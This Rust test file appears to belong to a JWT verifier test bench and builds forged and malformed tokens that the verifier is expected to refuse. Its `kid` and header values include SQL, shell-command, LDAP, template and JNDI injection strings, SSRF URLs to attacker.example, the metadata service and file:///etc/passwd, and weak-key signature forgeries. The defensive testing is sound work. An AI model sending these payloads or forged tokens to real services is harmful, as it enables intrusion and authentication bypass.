//! Rows 2, 3, 4 and 14: which key verifies is not for the token to choose.

use serde_json::{Value, json};

use super::{Bench, Class, object_without};
use crate::foreign::{Algorithm, HmacHash, PUBLISHED_SECRET, RsaScheme, encode, hmac, padded_digest};

const CROSSED: Class = Class {
    row: 2,
    reasons: &["algorithm_mismatch"],
    why: "a key is used with the one algorithm of its type",
};
const WRONG_SCHEME: Class = Class {
    row: 2,
    reasons: &["signature"],
    why: "the signature is made under another scheme than `alg` names",
};
const EMBEDDED_GENUINE_KID: Class = Class {
    row: 3,
    reasons: &["signature"],
    why: "the key that signed came with the token; the one it names did not sign",
};
const EMBEDDED_UNKNOWN_KID: Class = Class {
    row: 3,
    reasons: &["unknown_key"],
    why: "the key that signed came with the token and is nobody's",
};
const EMBEDDED_NO_KID: Class =
    Class { row: 3, reasons: &["key_id"], why: "a key in the header does not stand in for a `kid`" };
const UNKNOWN_KID: Class =
    Class { row: 4, reasons: &["unknown_key"], why: "no key has exactly these bytes for a `kid`" };
const MALFORMED_KID: Class = Class {
    row: 4,
    reasons: &["key_id"],
    why: "`kid` must be a string of 1 to 255 bytes, since it chooses the key",
};
const UNUSABLE: Class = Class {
    row: 14,
    reasons: &["unknown_key"],
    why: "the key is in the set, but not one that tokens may be verified with",
};
const UNUSABLE_SYMMETRIC: Class = Class {
    row: 14,
    reasons: &["algorithm"],
    why: "a symmetric key in a public set makes everyone an issuer",
};

pub(super) fn fill(bench: &mut Bench<'_>) {
    crossed(bench);
    embedded(bench);
    key_ids(bench);
    unusable(bench);
}

fn crossed(bench: &mut Bench<'_>) {
    for algorithm in Algorithm::ALL {
        for other in Algorithm::ALL.into_iter().filter(|other| *other != algorithm) {
            let alg = algorithm.name().to_ascii_lowercase();
            let header = bench.header_with(algorithm, "kid", &json!(other.key_id()).to_string());
            let by_alg = bench.issuer.token_with_header(&header, bench.good_claims(), algorithm);
            bench.refuse(
                &CROSSED,
                format!("cross-{alg}-with-kid-{}-signed-as-alg-says", other.key_id()),
                by_alg,
            );
            let by_kid = bench.issuer.token_with_header(&header, bench.good_claims(), other);
            bench.refuse(
                &CROSSED,
                format!("cross-{alg}-with-kid-{}-signed-as-kid-says", other.key_id()),
                by_kid,
            );
        }
    }
    for (name, scheme) in [
        ("pss", RsaScheme::Ps256),
        ("sha384", RsaScheme::Rs384),
        ("sha512", RsaScheme::Rs512),
        ("pss-sha384", RsaScheme::Ps384),
    ] {
        let signed = signing_input(bench, &bench.good_header(Algorithm::Rs256));
        let signature = bench.issuer.genuine.sign_rsa(scheme, signed.as_bytes());
        bench.refuse(
            &WRONG_SCHEME,
            format!("rs256-in-name-{name}-in-fact"),
            format!("{signed}.{}", encode(&signature)),
        );
    }
}

fn signing_input(bench: &Bench<'_>, header: &str) -> String {
    format!("{}.{}", encode(header.as_bytes()), encode(bench.good_claims().as_bytes()))
}

/// A token that the attacker signed under this header.
fn forged(bench: &Bench<'_>, header: &str, algorithm: Algorithm) -> String {
    let signed = signing_input(bench, header);
    let signature = bench.issuer.attacker.sign(algorithm, signed.as_bytes());
    format!("{signed}.{}", encode(&signature))
}

fn embedded(bench: &mut Bench<'_>) {
    for algorithm in Algorithm::ALL {
        let kid = algorithm.key_id();
        let jwk = bench.issuer.attacker.jwk(algorithm, kid).to_string();
        let header = bench.header_with(algorithm, "jwk", &jwk);
        bench.refuse(&EMBEDDED_GENUINE_KID, format!("embedded-jwk-{kid}"), forged(bench, &header, algorithm));
        let jwk = bench.issuer.attacker.jwk(algorithm, "mine").to_string();
        let header = bench
            .header_with(algorithm, "jwk", &jwk)
            .replace(&format!("\"kid\":\"{kid}\""), "\"kid\":\"mine\"");
        bench.refuse(
            &EMBEDDED_UNKNOWN_KID,
            format!("embedded-jwk-{kid}-unknown-kid"),
            forged(bench, &header, algorithm),
        );
    }
    let spki = encode(&bench.issuer.attacker.spki(Algorithm::EdDsa));
    let jwks = json!({ "keys": [bench.issuer.attacker.jwk(Algorithm::EdDsa, "ed")] });
    let members: [(&str, &str, Value); 12] = [
        ("jku", "jku", json!("https://attacker.example/jwks.json")),
        ("jku-loopback", "jku", json!("http://127.0.0.1:1/jwks.json")),
        ("jku-metadata-service", "jku", json!("http://169.254.169.254/latest/meta-data/")),
        ("jku-file", "jku", json!("file:///etc/passwd")),
        ("jku-userinfo", "jku", json!("https://foreign.example@attacker.example/jwks.json")),
        ("x5u", "x5u", json!("https://attacker.example/chain.pem")),
        ("x5c", "x5c", json!([spki])),
        ("x5t", "x5t", json!(encode(&[5; 20]))),
        ("x5t-s256", "x5t#S256", json!(encode(&[5; 32]))),
        ("jwks", "jwks", jwks),
        ("key", "key", json!(spki)),
        ("iss", "iss", json!("https://attacker.example")),
    ];
    for (name, member, value) in members {
        let header = bench.header_with(Algorithm::EdDsa, member, &value.to_string());
        let token = forged(bench, &header, Algorithm::EdDsa);
        bench.refuse(&EMBEDDED_GENUINE_KID, format!("embedded-{name}"), token);
        let header = header.replace("\"kid\":\"ed\",", "\"kid\":\"mine\",");
        let token = forged(bench, &header, Algorithm::EdDsa);
        bench.refuse(&EMBEDDED_UNKNOWN_KID, format!("embedded-{name}-unknown-kid"), token);
    }
    let jwk = bench.issuer.attacker.jwk(Algorithm::EdDsa, "ed").to_string();
    let mut header = bench.issuer.header(Algorithm::EdDsa);
    header.remove("kid");
    let header = super::object_with(header, "jwk", &jwk);
    bench.refuse(&EMBEDDED_NO_KID, "embedded-jwk-without-kid", forged(bench, &header, Algorithm::EdDsa));
}

fn key_ids(bench: &mut Bench<'_>) {
    let long = "k".repeat(255);
    let unknown = [
        ("upper-case", "ED"),
        ("trailing-space", "ed "),
        ("leading-space", " ed"),
        ("trailing-newline", "ed\n"),
        ("trailing-nul", "ed\u{0}"),
        ("nul-then-more", "ed\u{0}.pem"),
        ("cyrillic", "\u{435}d"),
        ("fullwidth", "\u{ff45}\u{ff44}"),
        ("combining", "ed\u{301}"),
        ("zero-width", "ed\u{200b}"),
        ("prefix", "e"),
        ("extended", "ed2"),
        ("wildcard", "*"),
        ("any-character", "e%"),
        ("regular-expression", "^ed$"),
        ("path-traversal", "../../../../dev/null"),
        ("path-traversal-encoded", "..%2f..%2fdev%2fnull"),
        ("absolute-path", "/dev/null"),
        ("windows-path", "..\\..\\windows\\win.ini"),
        ("file-url", "file:///dev/null"),
        ("url", "https://attacker.example/key"),
        ("sql", "x' UNION SELECT 'secret' -- "),
        ("sql-or", "ed' OR '1'='1"),
        ("command", "ed; cat /etc/passwd"),
        ("command-substitution", "$(id)"),
        ("pipe", "|id"),
        ("ldap", "*)(uid=*"),
        ("template", "{{7*7}}"),
        ("lookup", "${jndi:ldap://attacker.example/a}"),
        ("line-break", "ed\r\nx-injected: 1"),
        ("prototype", "__proto__"),
        ("index", "0"),
        ("json", "{\"kid\":\"ed\"}"),
        ("quoted", "\"ed\""),
        ("longest", long.as_str()),
    ];
    for (name, kid) in unknown {
        let token = bench.under_member("kid", &json!(kid).to_string());
        bench.refuse(&UNKNOWN_KID, format!("kid-{name}"), token);
    }
    let missing = object_without(bench.issuer.header(Algorithm::EdDsa), "kid");
    bench.refuse(&MALFORMED_KID, "kid-missing", bench.under_header(missing));
    let too_long = json!("k".repeat(256)).to_string();
    let far_too_long = json!("k".repeat(4000)).to_string();
    let malformed = [
        ("empty", "\"\""),
        ("number", "0"),
        ("null", "null"),
        ("true", "true"),
        ("array", "[\"ed\"]"),
        ("array-of-two", "[\"ed\",\"rs\"]"),
        ("object", "{\"ed\":true}"),
        ("of-256-bytes", too_long.as_str()),
        ("of-4000-bytes", far_too_long.as_str()),
    ];
    for (name, raw) in malformed {
        bench.refuse(&MALFORMED_KID, format!("kid-{name}"), bench.under_member("kid", raw));
    }
}

/// Tokens under the keys that [`crate::foreign::ForeignIssuer::jwks_with_unusable_keys`] publishes.
fn unusable(bench: &mut Bench<'_>) {
    let attacked = [
        ("ed-enc", Algorithm::EdDsa),
        ("ed-ops", Algorithm::EdDsa),
        ("es-private", Algorithm::Es256),
        ("rs-pss", Algorithm::Rs256),
        ("rs-mislabelled", Algorithm::Rs256),
    ];
    for (kid, algorithm) in attacked {
        let header = bench.header_with(algorithm, "kid", &json!(kid).to_string());
        bench.refuse(&UNUSABLE, format!("unusable-key-{kid}"), forged(bench, &header, algorithm));
    }
    let header = bench.header_with(Algorithm::Rs256, "kid", "\"rs-exponent-one\"");
    let signed = signing_input(bench, &header);
    let signature = encode(&padded_digest(signed.as_bytes()));
    bench.refuse(&UNUSABLE, "unusable-key-rs-exponent-one", format!("{signed}.{signature}"));

    // Under a key of order one, R of order one and s = 0 satisfy the equation for every message.
    let header = bench.header_with(Algorithm::EdDsa, "kid", "\"ed-weak\"");
    let mut signature = [0; 64];
    signature[0] = 1;
    let signed = signing_input(bench, &header);
    bench.refuse(&UNUSABLE, "unusable-key-ed-weak", format!("{signed}.{}", encode(&signature)));

    let header = json!({ "typ": "at+jwt", "alg": "HS256", "kid": "oct" }).to_string();
    let signed = signing_input(bench, &header);
    let signature = encode(&hmac(HmacHash::Sha256, PUBLISHED_SECRET, signed.as_bytes()));
    bench.refuse(&UNUSABLE_SYMMETRIC, "unusable-key-oct", format!("{signed}.{signature}"));
}
